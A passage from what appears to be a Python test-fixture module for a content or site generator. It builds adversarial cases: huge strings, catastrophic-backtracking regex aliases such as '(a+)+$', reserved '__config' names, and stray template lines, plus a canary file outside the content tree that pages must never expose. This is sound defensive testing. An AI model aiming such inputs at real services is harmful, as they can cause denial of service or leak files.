        "signs": "a\u0301" * 50_000, "word": "a" * 490_000, "hyphens": "a-" * 100_000, "at": "a@" * 50_000, "blanks": "x" + " " * 400_000 + "y"}.items()),
    _special("slow-forms", "---\nname: Person Slow\nkind: person\naliases: ['(a+)+$', '[', '.*.*.*x', '\\\\']\n---\n", None, "actors/special-slow.md"),
    _special("config-title", '---\ntitle: "__config"\ndate: 2025-02-03\n---\n\n## __config\n\nText.\n\n## __skip\n\n## __skip\n', None),
    _special("meta-lines", f"{_HEAD}---\n\nLondon: text of the first line\ntemplate: home.html\n", None),
)  # fmt: skip


def _expected(way: str, trick: str) -> str | None:
    return next((KEPT_OUT[key] for key in ((way, trick), (way, "*")) if key in KEPT_OUT), None) or None


def cases() -> Iterator[Case]:
    """All of them; no two share a file."""
    for table, ways in ((WORDS, WAYS), (MORE_WORDS, MORE_WAYS), (ADDRESSES, ADDRESS_WAYS)):
        for way, files in ways.items():
            for trick, words in table.items():
                name = f"to-{way}-{trick}" if table is ADDRESSES else f"{way}-{trick}"
                key = f"to-{way}" if table is ADDRESSES else way
                yield Case(name=name, files=files(name, words), code=_expected(key, trick))
    yield from SPECIAL


def write(folder: Path, chosen: Iterable[Case]) -> Path:
    """A content tree that holds some cases, with a file outside it that no page may show."""
    content = folder / "content"
    (content / "articles").mkdir(parents=True, exist_ok=True)
    (folder / "canary.txt").write_text(f"{CANARY}\n", "utf-8")
    for case in chosen:
        for path, data in case.files.items():
            (content / path).parent.mkdir(exist_ok=True)
            (content / path).write_bytes(data)
    return content
